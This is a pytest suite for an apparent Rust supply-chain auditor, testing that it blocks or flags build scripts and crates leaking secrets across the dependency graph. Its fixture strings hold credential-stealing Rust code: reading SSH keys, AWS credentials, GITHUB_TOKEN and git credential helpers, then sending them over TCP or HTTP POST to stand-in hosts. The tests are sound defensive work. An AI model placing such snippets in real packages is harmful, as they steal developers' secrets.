"""What only the graph tells, on small workspaces that are really read."""

from __future__ import annotations

import json
from importlib.resources import files

import jsonschema
import pytest

from analyzer.model import Confidence, Finding, Half, Severity, Support, Verdict
from analyzer.project import audit_json, audit_text
from analyzer.project.audit import AuditResult, Key, Place, Reason, Row
from analyzer.project.graph.join import Part, joined
from analyzer.project.graph.reach import Reach
from tests.unit.project.conftest import Project, Reader

SCHEMA = jsonschema.Draft202012Validator(
    json.loads(files("analyzer.report").joinpath("schemas/audit-v1.json").read_text())
)
WORDS = ("", Severity.HIGH, Confidence.HIGH, Support.STATIC)
LIB = {"src/lib.rs": "pub fn one() {}\n"}
ASKS_HELPER = """
pub fn ask() -> Vec<u8> {
    std::process::Command::new("git").args(["credential", "fill"]).output().unwrap().stdout
}
"""
CALLS = {"build.rs": "fn main() { asker::ask(); }\n", **LIB}


def row(result: AuditResult, name: str) -> Row | None:
    return next((one for one in result.rows if one.package.name == name), None)


def test_library_that_a_build_script_calls_is_judged_as_build_time_code(project: Project) -> None:
    project.add("asker", {"src/lib.rs": ASKS_HELPER})
    project.add("app", CALLS, build_dependencies="asker")
    result = project.audit()

    found = row(result, "asker")
    assert found is not None
    assert [one.rule for one in found.reasons] == ["library-runs-at-build"]
    assert found.verdict is Verdict.REVIEW
    text = " ".join(audit_text.render(result).split())
    assert "(build-asks-credential-helper, src/lib.rs:3)" in text
    assert "build-dependency of app 1.0.0 (app 1.0.0 → asker 1.0.0)" in text


def test_the_same_library_at_run_time_is_not(project: Project) -> None:
    project.add("asker", {"src/lib.rs": ASKS_HELPER})
    project.add("app", LIB, dependencies="asker")

    assert row(project.audit(), "asker") is None


@pytest.mark.parametrize(
    ("is_chosen", "worst", "verdict"),
    [
        (True, Verdict.REVIEW, Verdict.CLEAR),
        (False, Verdict.REVIEW, Verdict.REVIEW),
        (True, Verdict.BLOCK, Verdict.BLOCK),
    ],
)
def test_what_nobody_builds_stays_in_the_result_and_asks_for_less(
    worst: Verdict, verdict: Verdict, *, is_chosen: bool
) -> None:
    place = Place("Cargo.lock", 3, ("app 1.0.0", "x 1.0.0"), Reach(is_built=False))
    one = Row(Key("x", "1.0.0", "", ""), (Reason("scan", worst, "why"),), (place,))
    result = AuditResult((), (one,), (), "digest", is_scanned=True, is_chosen=is_chosen)

    assert result.verdict is verdict
    assert "built   no, not with these features and targets" in audit_text.render(result)


def test_reaches_stand_in_json_for_every_package(project: Project) -> None:
    project.add("helper", LIB)
    project.add("app", {"build.rs": "fn main() {}\n", **LIB}, build_dependencies="helper")
    graph = json.loads(audit_json.render(project.audit()))["graph"]

    assert [(one["name"], one["runs"]) for one in graph] == [
        ("app", ["build-script"]),
        ("helper", ["library"]),
    ]
    assert graph[1]["build_chain"] == ["app 1.0.0", "helper 1.0.0"]


def test_order_of_the_workers_changes_nothing(project: Project) -> None:
    project.add("asker", {"src/lib.rs": ASKS_HELPER})
    project.add("app", CALLS, build_dependencies="asker")

    turned = project.audit(reader=Reader(is_reversed=True))
    assert audit_json.render(project.audit()) == audit_json.render(turned)


# Hand-overs --------------------------------------------------------------------------------------

TELLS = """fn main() {
    let state = std::env::var("GITHUB_TOKEN").unwrap_or_default();
    println!("cargo::metadata=state={state}");
}
"""
SENDS = """fn main() {
    let state = std::env::var("DEP_TELLS_STATE").unwrap_or_default();
    let url = std::env::var("REPORT_TO").unwrap_or_default();
    ureq::post(&url).send_string(&state).ok();
}
"""
RULE = "secret-handed-to-sending-crate"


def with_sender(project: Project, sends: str = SENDS) -> None:
    project.add("reader", {"build.rs": TELLS, **LIB}, 'links = "tells"\n')
    manifest = '[build-dependencies]\nureq = "2"\n'
    project.add("sender", {"build.rs": sends, **LIB}, manifest, dependencies="reader")


def test_secret_that_passes_from_build_script_to_build_script_is_blocked(project: Project) -> None:
    with_sender(project)
    project.add("app", LIB, dependencies="sender")
    result = project.audit()

    assert result.verdict is Verdict.BLOCK
    rows = [row(result, "reader"), row(result, "sender")]
    reasons = [one.reasons[0] for one in rows if one is not None]
    assert [(one.rule, one.verdict) for one in reasons] == [(RULE, Verdict.BLOCK)] * 2
    assert "reader 1.0.0 → DEP_TELLS_STATE → sender 1.0.0" in reasons[0].text
    text = audit_text.render(result)
    assert "reader-1.0.0/build.rs:2  let state = std::env::var(" in text
    assert "sender-1.0.0/build.rs:4  ureq::post(&url)" in text


def test_neither_half_is_blocked_alone(project: Project) -> None:
    with_sender(project)
    verdicts = {one.crate.name: one.verdict for one in project.audit().reports}

    assert verdicts["reader"] is Verdict.CLEAR
    assert verdicts["sender"] is not Verdict.BLOCK


def test_metadata_goes_to_direct_dependents_only(project: Project) -> None:
    project.add("reader", {"build.rs": TELLS, **LIB}, 'links = "tells"\n')
    project.add("between", LIB, dependencies="reader")
    manifest = '[build-dependencies]\nureq = "2"\n'
    project.add("sender", {"build.rs": SENDS, **LIB}, manifest, dependencies="between")

    assert project.audit().verdict is not Verdict.BLOCK


def test_hand_over_stands_in_json_with_its_evidence(project: Project) -> None:
    with_sender(project)
    document = json.loads(audit_json.render(project.audit()))

    SCHEMA.validate(document)
    evidence = document["rows"][0]["reasons"][0]["evidence"]
    assert [one["where"]["file"] for one in evidence] == [
        *["reader-1.0.0/build.rs"] * 2,
        *["sender-1.0.0/build.rs"] * 2,
    ]


@pytest.mark.parametrize(
    ("given", "taken", "is_met"),
    [
        ("file {temp}/x", "file {temp}/x", True),
        ("file {temp}/x", "file {temp}/y", False),
        ("metadata DEP_A_{}", "metadata DEP_A_KEY", True),
        ("metadata DEP_{}", "metadata DEP_A_KEY", False),
        ("environment X", "file X", False),
    ],
)
def test_names_meet_when_they_may_be_the_same(given: str, taken: str, *, is_met: bool) -> None:
    def half(takes: str, gives: str) -> Half:
        return Half(takes, gives, Finding("r", *WORDS, (), (), (), ()))

    parts = (
        Part("a-1", frozenset(), (half("", given),)),
        Part("b-1", frozenset({0}), (half(taken, ""),)),
    )
    assert bool(joined(parts)) is is_met


# Carriers ----------------------------------------------------------------------------------------

STEALS = """use std::io::Write;
fn main() {
    let key = std::fs::read("/home/u/.ssh/id_rsa").unwrap();
    std::net::TcpStream::connect("198.51.100.7:443").unwrap().write_all(&key).unwrap();
}
"""


def test_carrier_of_a_blocked_package_is_blocked_with_the_chain(project: Project) -> None:
    project.add("payload", {"build.rs": STEALS, **LIB})
    project.add("between", LIB, dependencies="payload")
    project.add("carrier", LIB, dependencies="between")
    project.add("app", {"src/lib.rs": "pub use carrier::one;\n"}, dependencies="carrier")
    result = project.audit()

    found = row(result, "carrier")
    assert found is not None
    assert [(one.rule, one.verdict) for one in found.reasons] == [
        ("takes-along-unused-package", Verdict.BLOCK)
    ]
    assert found.reasons[0].text.endswith("carrier 1.0.0 → between 1.0.0 → payload 1.0.0")
    assert row(result, "app") is None


def test_who_uses_a_blocked_package_is_no_carrier(project: Project) -> None:
    project.add("payload", {"build.rs": STEALS, **LIB})
    project.add("user", {"src/lib.rs": "pub use payload::one;\n"}, dependencies="payload")

    assert row(project.audit(), "user") is None


@pytest.mark.parametrize(
    ("age", "build", "is_told"),
    [("week", "fn main() {}\n", True), ("week", "", False), ("year", "fn main() {}\n", False)],
)
def test_young_unused_package_that_acts_at_build_time_asks_for_a_look(
    project: Project, age: str, build: str, *, is_told: bool
) -> None:
    project.add("payload", {**({"build.rs": build} if build else {}), **LIB})
    project.add("carrier", LIB, dependencies="payload")
    result = project.audit(reader=Reader(age=age))

    found = row(result, "carrier")
    assert (found is not None) is is_told
    assert result.verdict is (Verdict.REVIEW if is_told else Verdict.CLEAR)


# Functions of dependencies -----------------------------------------------------------------------

READER = {
    "src/lib.rs": """pub fn state() -> String { deep().trim().to_string() }
fn deep() -> String { std::fs::read_to_string("/home/u/.aws/credentials").unwrap() }
pub fn is_there() -> bool { std::fs::read("/home/u/.aws/credentials").is_ok() }
"""
}
SENDER = {
    "src/lib.rs": """pub fn note(text: &str) { ship(&format!("a={text}")); }
fn ship(line: &str) { ureq::post("https://log.invalid/x").send_string(line).ok(); }
"""
}
UREQ = '[dependencies.ureq]\nversion = "2"\n'
JOINS = {"src/lib.rs": "pub fn run() { sender::note(&reader::state()); }\n"}


def blocked(result: AuditResult) -> dict[str, set[str]]:
    """Names of blocked packages with their rules."""
    return {
        one.package.name: {why.rule for why in one.reasons if why.verdict is Verdict.BLOCK}
        for one in result.rows
        if one.verdict is Verdict.BLOCK
    }


def test_crate_that_joins_a_reader_and_a_sender_is_blocked(project: Project) -> None:
    project.add("reader", READER)
    project.add("sender", SENDER, UREQ)
    project.add("joiner", JOINS, dependencies="reader sender")
    result = project.audit()

    assert {one.verdict for one in result.reports} == {Verdict.CLEAR}
    assert list(blocked(result)) == ["joiner"]
    text = audit_text.render(result)
    assert "reader-1.0.0/src/lib.rs:2" in text
    assert "sender-1.0.0/src/lib.rs:2" in text
    assert "joiner-1.0.0/src/lib.rs:1" in text


def test_sender_that_calls_a_reader_is_blocked(project: Project) -> None:
    project.add("reader", READER)
    calls = (
        'pub fn run() { ureq::post("https://log.invalid/x").send_string(&reader::state()).ok(); }'
    )
    project.add("sender", {"src/lib.rs": calls}, UREQ, dependencies="reader")

    assert list(blocked(project.audit())) == ["sender"]


def test_value_is_followed_through_a_crate_in_the_middle(project: Project) -> None:
    project.add("reader", READER)
    project.add("sender", SENDER, UREQ)
    project.add(
        "middle",
        {"src/lib.rs": "pub fn facade() -> String { reader::state() }\n"},
        dependencies="reader",
    )
    joins = "pub fn run() { sender::note(&middle::facade()); }\n"
    project.add("joiner", {"src/lib.rs": joins}, dependencies="middle sender")

    assert list(blocked(project.audit())) == ["joiner"]


def test_methods_of_a_type_are_known_too(project: Project) -> None:
    reader = """pub struct Probe { at: u8 }
impl Probe {
    pub fn new() -> Self { Probe { at: 1 } }
    pub fn token(&self) -> String { std::fs::read_to_string("/root/.ssh/id_rsa").unwrap() }
}
"""
    project.add("reader", {"src/lib.rs": reader})
    project.add("sender", SENDER, UREQ)
    joins = "pub fn run() { let p = reader::Probe::new(); sender::note(&p.token()); }\n"
    project.add("joiner", {"src/lib.rs": joins}, dependencies="reader sender")

    assert list(blocked(project.audit())) == ["joiner"]


def test_build_script_that_joins_both_is_blocked(project: Project) -> None:
    project.add("reader", READER)
    project.add("sender", SENDER, UREQ)
    build = "fn main() { sender::note(&reader::state()); }\n"
    project.add("joiner", {"build.rs": build, **LIB}, build_dependencies="reader sender")

    assert "joiner" in blocked(project.audit())


def test_whether_a_secret_is_there_is_no_secret(project: Project) -> None:
    project.add("reader", READER)
    project.add("sender", SENDER, UREQ)
    joins = 'pub fn run() { if reader::is_there() { sender::note("x"); } }\n'
    project.add("joiner", {"src/lib.rs": joins}, dependencies="reader sender")

    assert blocked(project.audit()) == {}


def test_only_who_depends_on_such_a_crate_is_read_again(project: Project) -> None:
    reader = Reader()
    project.add("reader", READER)
    project.add("plain", LIB)
    project.add("user", LIB, dependencies="reader plain")
    project.add("other", LIB, dependencies="user plain")
    project.audit(reader=reader)

    assert reader.seen.count("user") == 2
    assert [reader.seen.count(one) for one in ("reader", "plain", "other")] == [1, 1, 1]


def test_program_that_uses_a_much_used_client_is_not_blocked_for_it(project: Project) -> None:
    project.add("reader", READER)
    calls = (
        'pub fn run() { ureq::post("https://log.invalid/x").send_string(&reader::state()).ok(); }'
    )
    project.add("app", {"src/lib.rs": calls}, UREQ, dependencies="reader")
    result = project.audit(reader=Reader(popular=("reader",)))

    assert result.verdict is Verdict.REVIEW
